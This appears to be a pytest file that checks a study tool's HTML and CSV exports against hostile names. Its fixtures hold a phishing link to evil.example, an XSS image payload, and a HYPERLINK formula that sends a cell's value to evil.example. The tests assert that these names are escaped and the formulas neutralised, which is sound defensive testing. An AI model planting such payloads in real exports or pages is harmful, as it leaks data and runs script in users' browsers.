"""A study's exports with hostile names: the HTML report's charts show names, base names and axis
values as text (plotly.js renders a subset of HTML in names, labels and titles), and its CSV hands a
spreadsheet no formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.backend.builders import tiny_config
from tests.backend.conftest import Api
from tests.backend.studies.execution import run_here

pytestmark = pytest.mark.deployments("embedded")  # the exports read stored rows: one database is enough

LINK = '<a href="https://evil.example/phish">Session expired: log in again</a>'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
NAMES = ["<b>bold</b><img src=x onerror=alert(1)>", "=1+1"]


@pytest.fixture
def study_id(api: Api, tmp_path: Path) -> int:
    base = tiny_config(training={"rounds": 1})
    body = {
        "name": f"study {LINK}",
        "bases": [{"name": LINK, "config": base}, {"name": FORMULA, "config": base}],
        "axes": [{"field": "name", "values": NAMES}, {"field": "scheduler.V", "values": [1, 10]}],
    }
    created = api.client.post("/api/studies", json=body, headers=api.as_("operator"))
    assert created.status_code == 201, created.text
    assert set(run_here(api, created.json()["id"], tmp_path)) == {"succeeded"}
    return int(created.json()["id"])


def _unescaped_json(page: str) -> str:
    """The page with the JSON escapes plotly.py writes for <, >, & and / undone (what the browser's
    JavaScript then hands to plotly.js)."""
    for escape, char in (("\\u003c", "<"), ("\\u003e", ">"), ("\\u0026", "&"), ("\\u002f", "/")):
        page = page.replace(escape, char)
    return page


def test_the_html_report_gives_its_charts_names_as_text(api: Api, study_id: int) -> None:
    page = api.client.get(
        f"/api/studies/{study_id}/export", params={"format": "html"}, headers=api.as_("viewer")
    ).text
    seen_by_plotly = _unescaped_json(page.split("</head>", 1)[1])  # the figures (plotly.js is in the head)
    for markup in ("<a href", "<b>", "<img"):
        assert markup not in seen_by_plotly, markup
    assert '&lt;a href=\\"https://evil.example/phish\\"&gt;' in seen_by_plotly  # a trace's name, as text


def test_the_csv_export_neutralises_formulas_in_base_names_and_axis_values(api: Api, study_id: int) -> None:
    response = api.client.get(
        f"/api/studies/{study_id}/export", params={"format": "csv"}, headers=api.as_("viewer")
    )
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert {r["base"] for r in rows} == {LINK, "'" + FORMULA}
    assert {r["name"] for r in rows} == {NAMES[0], "'=1+1"}
    assert all(not r["label"].startswith(("=", "+", "-", "@")) for r in rows)
